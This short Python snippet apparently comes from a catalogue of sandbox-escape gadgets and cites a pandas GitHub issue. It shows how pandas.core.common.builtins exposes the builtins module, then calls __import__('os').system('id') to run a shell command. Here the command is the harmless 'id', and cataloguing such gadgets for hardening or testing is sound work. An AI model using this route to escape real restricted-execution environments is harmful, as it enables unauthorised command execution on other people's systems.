# Source: https://github.com/pandas-dev/pandas/issues/60602 (pd.core.frame.com.builtins)
# Family: module-attribute
# What: pandas.core.common.builtins gives the builtins module directly
import pandas as pd

pd.core.common.builtins.__import__("os").system("id")
